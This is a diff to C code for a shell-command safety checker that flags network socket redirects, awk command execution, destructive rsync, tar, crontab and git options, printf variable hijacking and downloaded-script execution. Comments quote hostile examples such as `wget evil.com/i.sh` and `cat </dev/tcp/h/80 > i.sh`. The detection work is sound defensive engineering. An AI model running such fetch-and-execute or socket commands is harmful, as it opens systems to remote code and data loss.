@@ -46,8 +46,12 @@ static bool cluster_has(const char *a, char ch)
 
 /*
  * `a` names the long option `full` (exactly, as `full=value`, or as an
- * unambiguous-looking abbreviation of at least `min` bytes: getopt_long and
- * git's parse-options both accept abbreviations, so `rm --recur` recurses).
+ * abbreviation of at least `min` bytes: getopt_long and git's parse-options
+ * both accept abbreviations, so `rm --recur` recurses and `sort --o=F`
+ * writes F).  A prefix either selects `full` or is ambiguous (an error), so
+ * where matching adds a tag or withholds read-only `min` is 3 (`--` and one
+ * letter); a larger `min` is only for options whose match makes a command
+ * look safer (`--staged`: `--s` may also be `--source`).
  */
 static bool long_opt(const char *a, const char *full, size_t min)
 {
@@ -108,6 +112,35 @@ bool ll_is_downloader(const char *name)
 bool ll_is_interpreter(const char *name)
 {
 	return in_list(interpreters, name) || is_python(name);
+}
+
+static const char *const awks[] = { "awk", "gawk", "mawk", "nawk", NULL };
+
+bool ll_awk_runs_input(const locus_shell_command *c)
+{
+	if (c->argc == 0 || !in_list(awks, c->name))
+		return false;
+	for (size_t i = 1; i < c->argc; i++) {
+		const char *a = c->argv[i];
+		if (is_option(a))
+			continue; /* -F'|' */
+		if (strstr(a, "system") || strstr(a, "getline"))
+			return true;
+		/* print | "sh", print |& cmd: a pipe to a command (not the
+		   string "|"). */
+		for (const char *b = strchr(a, '|'); b; b = strchr(b + 1, '|')) {
+			if (b > a && b[-1] == '"')
+				continue;
+			const char *q = b + 1;
+			if (*q == '&')
+				return true;
+			while (*q == ' ' || *q == '\t')
+				q++;
+			if (*q == '"' || (*q >= 'a' && *q <= 'z'))
+				return true;
+		}
+	}
+	return false;
 }
 
 /* ---- command views ---------------------------------------------------- */
@@ -252,6 +285,7 @@ static const sub_row network_subs[] = {
 	NET("git", "push"), NET("git", "pull"), NET("git", "fetch"),
 	NET("git", "clone"), NET("git", "ls-remote"), NET("git", "submodule"),
 	NET("git", "send-email"), NET("git", "request-pull"),
+	NET("git", "send-pack"), NET("git", "fetch-pack"),
 	{ "git", "remote", "show", "git remote show reaches the network" },
 	{ "git", "remote", "update", "git remote update reaches the network" },
 	{ "git", "remote", "prune", "git remote prune reaches the network" },
@@ -422,6 +456,53 @@ static bool rm_floor(const locus_shell_command *c)
 	return false;
 }
 
+/*
+ * Options that make an otherwise ordinary program delete something: the
+ * short option in any cluster, the long one with its abbreviations (or any
+ * option starting with it when long_prefix: rsync --delete-after).
+ */
+typedef struct opt_row {
+	const char *prog;
+	char short_opt;      /* 0: none */
+	const char *long_opt; /* NULL: none */
+	bool long_prefix;
+	const char *reason;
+} opt_row;
+
+static const opt_row destructive_opts[] = {
+	{ "crontab", 'r', NULL, false, "crontab -r deletes the crontab" },
+	{ "rsync", 0, "--delete", true, "rsync --delete deletes files" },
+	{ "rsync", 0, "--remove-source-files", false,
+	  "rsync --remove-source-files deletes files" },
+	{ "tar", 0, "--remove-files", false, "tar --remove-files deletes files" },
+	{ NULL, 0, NULL, false, NULL },
+};
+
+static bool opt_row_hits(const opt_row *r, const char *a)
+{
+	if (r->short_opt && cluster_has(a, r->short_opt))
+		return true;
+	if (!r->long_opt)
+		return false;
+	return long_opt(a, r->long_opt, 3) ||
+	       (r->long_prefix && starts_with(a, r->long_opt));
+}
+
+/* /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT: bash opens a socket for a
+   redirect to or from them. */
+static bool net_device(const char *t)
+{
+	return t && (starts_with(t, "/dev/tcp/") || starts_with(t, "/dev/udp/"));
+}
+
+bool ll_net_redirect(const locus_shell_command *c)
+{
+	for (size_t i = 0; i < c->nredirects; i++)
+		if (net_device(c->redirects[i].target))
+			return true;
+	return false;
+}
+
 /* Devices that are not storage: writing them destroys nothing. */
 static const char *const harmless_devices[] = {
 	"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", NULL,
@@ -453,7 +534,7 @@ static bool is_force_f(const char *a)
 
 static bool reset_discards(const char *a)
 {
-	return long_opt(a, "--hard", 4) || long_opt(a, "--merge", 4);
+	return long_opt(a, "--hard", 3) || long_opt(a, "--merge", 3);
 }
 
 static bool git_reset(const view *v)
@@ -474,7 +555,7 @@ static bool git_checkout(const view *v)
 		if (streq(a, "--"))
 			return i + 1 < v->nargs;
 		if (is_force_f(a) || streq(a, ".") ||
-		    long_opt(a, "--pathspec-from-file", 4))
+		    long_opt(a, "--pathspec-from-file", 3))
 			return true;
 	}
 	return false;
@@ -489,7 +570,7 @@ static bool git_restore(const view *v)
 			break;
 		if (long_opt(a, "--staged", 4))
 			staged = true;
-		else if (long_opt(a, "--worktree", 4))
+		else if (long_opt(a, "--worktree", 3))
 			worktree = true;
 		else if (is_cluster(a) && a[1] != 's') {
 			/* -s takes the source tree as its value. */
@@ -506,7 +587,7 @@ static bool git_restore(const view *v)
 
 static bool is_discard_changes(const char *a)
 {
-	return is_force_f(a) || long_opt(a, "--discard-changes", 4);
+	return is_force_f(a) || long_opt(a, "--discard-changes", 3);
 }
 
 static bool git_switch(const view *v)
@@ -529,7 +610,7 @@ static bool git_branch(const view *v)
 			break;
 		if (cluster_has(a, 'D'))
 			return true;
-		if (long_opt(a, "--delete", 5) || cluster_has(a, 'd'))
+		if (long_opt(a, "--delete", 3) || cluster_has(a, 'd'))
 			del = true;
 		if (is_force_f(a))
 			force = true;
@@ -552,13 +633,13 @@ static bool git_worktree(const view *v)
 /* --delete, -d in a cluster, :ref (force-push and destructive). */
 static bool push_deletes_ref(const char *a)
 {
-	return long_opt(a, "--delete", 4) || cluster_has(a, 'd') ||
+	return long_opt(a, "--delete", 3) || cluster_has(a, 'd') ||
 	       (a[0] == ':' && a[1] != '\0');
 }
 
 static bool push_prunes(const char *a)
 {
-	return long_opt(a, "--prune", 4);
+	return long_opt(a, "--prune", 3);
 }
 
 static bool any_arg_all(const view *v, bool (*pred)(const char *))
@@ -590,10 +671,51 @@ static bool git_push_forced(const view *v)
 			return true;
 		if (after_dd)
 			continue;
-		if (is_force_f(a) || long_opt(a, "--mirror", 4))
+		if (is_force_f(a) || long_opt(a, "--mirror", 3))
 			return true;
 	}
 	return false;
+}
+
+/* update-ref -d deletes a ref (and its reflog); --stdin reads commands
+   that may delete. */
+static bool update_ref_deletes(const char *a)
+{
+	return cluster_has(a, 'd') || long_opt(a, "--stdin", 3);
+}
+
+static bool git_update_ref(const view *v)
+{
+	return any_arg(v, update_ref_deletes);
+}
+
+static bool git_reflog(const view *v)
+{
+	const char *s = git_sub2(v);
+	return s && (streq(s, "expire") || streq(s, "delete"));
+}
+
+/* --prune=DATE (now, all, any date) deletes unreachable objects at once;
+   only --prune=never keeps them. */
+static bool gc_prunes(const char *a)
+{
+	const char *eq = strchr(a, '=');
+	return long_opt(a, "--prune", 3) && eq && !streq(eq + 1, "never");
+}
+
+static bool git_gc(const view *v)
+{
+	return any_arg(v, gc_prunes);
+}
+
+static bool prune_dry_run(const char *a)
+{
+	return cluster_has(a, 'n') || long_opt(a, "--dry-run", 3);
+}
+
+static bool git_prune(const view *v)
+{
+	return !any_arg(v, prune_dry_run);
 }
 
 typedef struct git_rule {
@@ -617,12 +739,20 @@ static const git_rule git_destructive[] = {
 	{ "worktree", git_worktree, "git worktree remove --force discards work",
 	  NULL },
 	{ "push", git_push_deletes, "git push deletes remote refs", NULL },
+	{ "send-pack", git_push_deletes, "git send-pack deletes remote refs",
+	  NULL },
+	{ "update-ref", git_update_ref, "git update-ref -d deletes a ref",
+	  NULL },
+	{ "reflog", git_reflog, "git reflog expire/delete drops history",
+	  NULL },
+	{ "gc", git_gc, "git gc --prune deletes unreachable commits", NULL },
+	{ "prune", git_prune, "git prune deletes unreachable commits", NULL },
 	{ NULL, NULL, NULL, NULL },
 };
 
 static bool reset_hard(const char *a)
 {
-	return long_opt(a, "--hard", 4);
+	return long_opt(a, "--hard", 3);
 }
 
 /* ---- the per-command judgement ---------------------------------------- */
@@ -655,7 +785,8 @@ static void judge_git(const locus_shell_command *c, const view *v,
 	}
 	if (streq(v->sub, "reset") && any_arg(v, reset_hard))
 		set_never(j, LL_NEVER_RESET);
-	if (streq(v->sub, "push")) {
+	/* send-pack is the plumbing under push: same refspecs and --force. */
+	if (streq(v->sub, "push") || streq(v->sub, "send-pack")) {
 		j->tags |= LOCUS_TAG_VCS_PUSH;
 		add_reason(j, LL_REASON_PUSH);
 		bool forced = git_push_forced(v);
@@ -675,6 +806,11 @@ void ll_judge_command(const locus_shell_command *c, ll_judgement *j)
 	if (c->flags & LOCUS_CMD_INLINE_DELETES) {
 		j->tags |= LOCUS_TAG_DESTRUCTIVE;
 		add_reason(j, LL_REASON_INLINE_DELETES);
+	}
+	/* Also on a bare redirect (`> /dev/tcp/h/80`) or `exec 3<>...`. */
+	if (ll_net_redirect(c)) {
+		j->tags |= LOCUS_TAG_NETWORK;
+		add_reason(j, LL_REASON_NET_REDIRECT);
 	}
 	if (c->argc == 0 || !c->name[0])
 		return;
@@ -729,6 +865,19 @@ void ll_judge_command(const locus_shell_command *c, ll_judgement *j)
 		if (p->never)
 			set_never(j, p->never);
 	}
+	for (const opt_row *o = destructive_opts; o->prog; o++) {
+		if (!streq(o->prog, c->name))
+			continue;
+		for (size_t i = 1; i < c->argc; i++) {
+			if (streq(c->argv[i], "--"))
+				break;
+			if (opt_row_hits(o, c->argv[i])) {
+				j->tags |= LOCUS_TAG_DESTRUCTIVE;
+				add_reason(j, o->reason);
+				break;
+			}
+		}
+	}
 	if (streq(c->name, "rm") && rm_floor(c))
 		set_never(j, LL_NEVER_RM);
 	if (streq(c->name, "dd")) {
@@ -766,14 +915,17 @@ void ll_judge_command(const locus_shell_command *c, ll_judgement *j)
 /* curl/http/xh options that save the body to a file. */
 static bool curl_saves(const char *a)
 {
-	return long_opt(a, "--output", 5) || long_opt(a, "--remote-name", 5) ||
-	       long_opt(a, "--remote-name-all", 5) ||
-	       long_opt(a, "--download", 5) || cluster_has(a, 'o') ||
+	return long_opt(a, "--output", 3) || long_opt(a, "--remote-name", 3) ||
+	       long_opt(a, "--remote-name-all", 3) ||
+	       long_opt(a, "--download", 3) || cluster_has(a, 'o') ||
 	       cluster_has(a, 'O') || cluster_has(a, 'd');
 }
 
 bool ll_downloader_writes_file(const locus_shell_command *c)
 {
+	/* `cat </dev/tcp/h/80 > i.sh` saves what it read from a socket. */
+	if (ll_net_redirect(c) && (c->flags & LOCUS_CMD_WRITES_FILES))
+		return true;
 	if (c->argc == 0 || !ll_is_downloader(c->name))
 		return false;
 	if (c->flags & LOCUS_CMD_WRITES_FILES)
@@ -891,7 +1043,7 @@ bool ll_downloaded_file_runs(const locus_shell_command *d, const char *run)
 	}
 	for (size_t i = 1; i < d->argc; i++) {
 		const char *a = d->argv[i];
-		if (streq(a, "-J") || long_opt(a, "--remote-header-name", 10) ||
+		if (streq(a, "-J") || long_opt(a, "--remote-header-name", 3) ||
 		    cluster_has(a, 'J'))
 			return true;
 		if (names_output(a) && i + 1 < d->argc &&
@@ -901,7 +1053,15 @@ bool ll_downloaded_file_runs(const locus_shell_command *d, const char *run)
 		if (eq && a[0] == '-' && a[1] == '-' &&
 		    streq(base_of(eq + 1), want))
 			return true;
-		if (strstr(a, "://")) {
+		/* -Oi.sh, -so i.sh: the value attached to -o/-O. */
+		if (is_cluster(a)) {
+			const char *o = strpbrk(a + 1, "oO");
+			if (o && o[1] && streq(base_of(o + 1), want))
+				return true;
+		}
+		/* A URL, with or without a scheme (`wget evil.com/i.sh` saves
+		   i.sh), or an option's value: its last segment. */
+		if (!is_option(a)) {
 			const char *b = url_base(a, buf, sizeof buf);
 			if (b && streq(b, want))
 				return true;
@@ -924,7 +1084,7 @@ bool ll_downloaded_file_runs(const locus_shell_command *d, const char *run)
 static const char *const read_plain[] = {
 	"ls", "pwd", "cat", "head", "tail", "wc", "grep", "stat", "du", "df",
 	"which", "basename", "dirname", "realpath", "uname", "diff", "cut",
-	"jq", "echo", "printf", "true", "false", "test", "[", "[[", "id", "whoami",
+	"jq", "echo", "true", "false", "test", "[", "[[", "id", "whoami",
 	"nl", "paste", "rev", "seq", "tr", "tac", "cmp", "comm", "column",
 	"fold", "expand", "od", "hexdump", "strings", "readlink", "md5sum",
 	"sha1sum", "sha256sum", "type", "cd", "pushd", "popd", NULL,
@@ -951,37 +1111,49 @@ static bool find_bad(const char *a)
 
 static bool rg_bad(const char *a)
 {
-	return long_opt(a, "--pre", 5) || long_opt(a, "--hostname-bin", 4) ||
-	       long_opt(a, "--search-zip", 4) || cluster_has(a, 'z');
+	return long_opt(a, "--pre", 3) || long_opt(a, "--hostname-bin", 3) ||
+	       long_opt(a, "--search-zip", 3) || cluster_has(a, 'z');
 }
 
 static bool sort_bad(const char *a)
 {
-	return long_opt(a, "--output", 5) ||
-	       long_opt(a, "--compress-program", 4) || cluster_has(a, 'o');
+	return long_opt(a, "--output", 3) ||
+	       long_opt(a, "--compress-program", 3) || cluster_has(a, 'o');
 }
 
 static bool tree_bad(const char *a)
 {
 	/* -o FILE writes; -R with -H writes 00Tree.html files. */
-	return long_opt(a, "--output", 5) || cluster_has(a, 'o') ||
+	return long_opt(a, "--output", 3) || cluster_has(a, 'o') ||
 	       cluster_has(a, 'R');
 }
 
+/* date -s/--set sets the clock.  In a cluster -d -f -r -I take the rest
+   as their value (`date -Iseconds` is not -s). */
 static bool date_bad(const char *a)
 {
-	return long_opt(a, "--set", 4) || cluster_has(a, 's');
+	if (long_opt(a, "--set", 3))
+		return true;
+	if (!is_cluster(a))
+		return false;
+	for (const char *p = a + 1; *p; p++) {
+		if (*p == 's')
+			return true;
+		if (strchr("dfrI", *p))
+			return false;
+	}
+	return false;
 }
 
 static bool base64_bad(const char *a)
 {
-	return long_opt(a, "--output", 5) || cluster_has(a, 'o');
+	return long_opt(a, "--output", 3) || cluster_has(a, 'o');
 }
 
 static bool file_bad(const char *a)
 {
 	/* file -C compiles a magic file into the working directory. */
-	return long_opt(a, "--compile", 4) || cluster_has(a, 'C');
+	return long_opt(a, "--compile", 3) || cluster_has(a, 'C');
 }
 
 /* uniq IN OUT writes OUT.  -f -s -w take a separate value. */
@@ -1171,14 +1343,19 @@ static bool command_query_ok(const locus_shell_command *c)
 	return query;
 }
 
-/* git options that run programs or write files, on any subcommand. */
+/* git options that run programs or write files, on any subcommand, with
+   their abbreviations (parse-options accepts any unambiguous prefix; an
+   exact option name wins over a prefix, so `--text` is -a, not
+   `--textconv`). */
 static bool git_arg_bad(const char *a)
 {
-	return opt_eq(a, "--output") || streq(a, "--ext-diff") ||
-	       streq(a, "--textconv") || opt_eq(a, "--exec") ||
-	       long_opt(a, "--open-files-in-pager", 4) ||
-	       long_opt(a, "--upload-pack", 4) ||
-	       long_opt(a, "--receive-pack", 4);
+	if (streq(a, "--text"))
+		return false;
+	return long_opt(a, "--output", 3) || long_opt(a, "--ext-diff", 3) ||
+	       long_opt(a, "--textconv", 3) || long_opt(a, "--exec", 3) ||
+	       long_opt(a, "--open-files-in-pager", 3) ||
+	       long_opt(a, "--upload-pack", 3) ||
+	       long_opt(a, "--receive-pack", 3);
 }
 
 static const char *const git_read_subs[] = {
@@ -1248,26 +1425,77 @@ static bool git_read_ok(const locus_shell_command *c)
 	return true;
 }
 
-/* Read-only programs with argument rules: no glob allowed. */
+/* A lower-case shell name: bash's special variables (PATH, IFS, PS4,
+   BASH_CMDS, PROMPT_COMMAND...) are all upper case, and no subscript
+   (`a[$(cmd)]` runs code). */
+static bool plain_lower_name(const char *s)
+{
+	if (!((*s >= 'a' && *s <= 'z') || *s == '_'))
+		return false;
+	for (; *s; s++)
+		if (!((*s >= 'a' && *s <= 'z') || (*s >= '0' && *s <= '9') ||
+		      *s == '_'))
+			return false;
+	return true;
+}
+
+/*
+ * printf -v NAME assigns a shell variable: PATH, BASH_CMDS[ls] or a
+ * subscript that runs code change what the line runs, so only a plain
+ * lower-case NAME stays read-only.  Options end at the format (the first
+ * non-option word) or `--`; bash also takes `-vNAME`.  A glob in option
+ * position could expand to `-vPATH`; after the format it is data.
+ */
+static bool printf_ok(const locus_shell_command *c)
+{
+	for (size_t i = 1; i < c->argc; i++) {
+		const char *a = c->argv[i];
+		if (c->argv_flags && (c->argv_flags[i] & (LOCUS_WORD_GLOB |
+		                                          LOCUS_WORD_BRACE)))
+			return false;
+		if (streq(a, "--") || !is_option(a))
+			return true;
+		if (a[1] != 'v')
+			return false; /* bash's printf has no other option */
+		const char *name = a + 2;
+		if (!*name) {
+			if (i + 1 >= c->argc)
+				return false;
+			name = c->argv[++i];
+			if (c->argv_flags &&
+			    (c->argv_flags[i] &
+			     (LOCUS_WORD_GLOB | LOCUS_WORD_BRACE)))
+				return false;
+		}
+		if (!plain_lower_name(name))
+			return false;
+	}
+	return true;
+}
+
+/* Read-only programs with argument rules.  No glob argument allowed
+   unless glob_ok (the rule checks where globs sit itself). */
 typedef struct read_rule {
 	const char *name;
 	bool (*bad_arg)(const char *a);              /* per argument */
 	bool (*ok)(const locus_shell_command *c);    /* whole command */
+	bool glob_ok;
 } read_rule;
 
 static const read_rule read_rules[] = {
-	{ "find", find_bad, NULL },
-	{ "rg", rg_bad, NULL },
-	{ "sort", sort_bad, NULL },
-	{ "tree", tree_bad, NULL },
-	{ "date", date_bad, NULL },
-	{ "base64", base64_bad, NULL },
-	{ "file", file_bad, NULL },
-	{ "uniq", NULL, uniq_ok },
-	{ "sed", NULL, sed_ok },
-	{ "node", NULL, node_ok },
-	{ "command", NULL, command_query_ok },
-	{ NULL, NULL, NULL },
+	{ "find", find_bad, NULL, false },
+	{ "rg", rg_bad, NULL, false },
+	{ "sort", sort_bad, NULL, false },
+	{ "tree", tree_bad, NULL, false },
+	{ "date", date_bad, NULL, false },
+	{ "base64", base64_bad, NULL, false },
+	{ "file", file_bad, NULL, false },
+	{ "uniq", NULL, uniq_ok, false },
+	{ "sed", NULL, sed_ok, false },
+	{ "node", NULL, node_ok, false },
+	{ "command", NULL, command_query_ok, false },
+	{ "printf", NULL, printf_ok, true },
+	{ NULL, NULL, NULL, false },
 };
 
 bool ll_command_read_only(const locus_shell_command *c)
@@ -1286,13 +1514,14 @@ bool ll_command_read_only(const locus_shell_command *c)
 		return true;
 	/* Everything below has argument rules: a glob could smuggle an
 	   option (a file named --pre=sh). */
-	if (c->flags & LOCUS_CMD_GLOB_ARGS)
-		return false;
+	bool glob = (c->flags & LOCUS_CMD_GLOB_ARGS) != 0;
 	if (is_git_name(c->name))
-		return git_read_ok(c);
+		return !glob && git_read_ok(c);
 	for (const read_rule *r = read_rules; r->name; r++) {
 		if (!streq(r->name, c->name))
 			continue;
+		if (glob && !r->glob_ok)
+			return false;
 		if (r->bad_arg && !args_none_match(c, r->bad_arg))
 			return false;
 		if (r->ok && !r->ok(c))
@@ -1347,4 +1576,55 @@ bool ll_command_check(const locus_shell_command *c)
 		if (check_row_matches(r, &v))
 			return true;
 	return false;
+}
+
+/* ---- unknown programs (G2) ------------------------------------------- */
+
+/*
+ * Programs in no table below that take data, never code: their arguments
+ * are file names, messages or values (`touch 'rm -rf x'`, `export
+ * MSG='...'`).  Builtins the parser sees through (trap, eval, source) are
+ * known too: the commands in their strings are listed and judged.
+ */
+static const char *const known_inert[] = {
+	"tee", "touch", "mkdir", "cp", "mv", "ln", "chmod", "chown", "chgrp",
+	"install", "sleep", "kill", "wait", "logger", "export", "declare",
+	"typeset", "local", "readonly", "unset", "set", "shift", "exit",
+	"return", "read", "trap", "exec", "builtin", "true", "false", ":",
+	"break", "continue", "shopt", "umask", "xargs", "env", "sudo", "doas",
+	"nice", "nohup", "timeout", "time", "stdbuf", "watch", "parallel",
+	"ssh", NULL,
+};
+
+static bool in_sub_table(const sub_row *rows, const char *name)
+{
+	for (const sub_row *r = rows; r->prog; r++)
+		if (streq(r->prog, name))
+			return true;
+	return false;
+}
+
+bool ll_unknown_program(const locus_shell_command *c)
+{
+	if (c->argc == 0 || !c->name[0])
+		return false;
+	/* A wrapper's inner command is listed and judged on its own. */
+	if (c->flags & (LOCUS_CMD_WRAPPER | LOCUS_CMD_QUERY_ONLY))
+		return false;
+	const char *n = c->name;
+	if (in_list(read_plain, n) || in_list(known_inert, n) ||
+	    in_list(downloaders, n) || in_list(network_only, n) ||
+	    ll_is_interpreter(n) || is_git_name(n) || streq(n, "dd"))
+		return false;
+	for (const read_rule *r = read_rules; r->name; r++)
+		if (streq(r->name, n))
+			return false;
+	for (const prog_row *p = destructive_progs; p->name; p++)
+		if (p->prefix ? starts_with(n, p->name) : streq(n, p->name))
+			return false;
+	for (const opt_row *o = destructive_opts; o->prog; o++)
+		if (streq(o->prog, n))
+			return false;
+	return !in_sub_table(network_subs, n) &&
+	       !in_sub_table(shutdown_subs, n) && !in_sub_table(check_subs, n);
 }
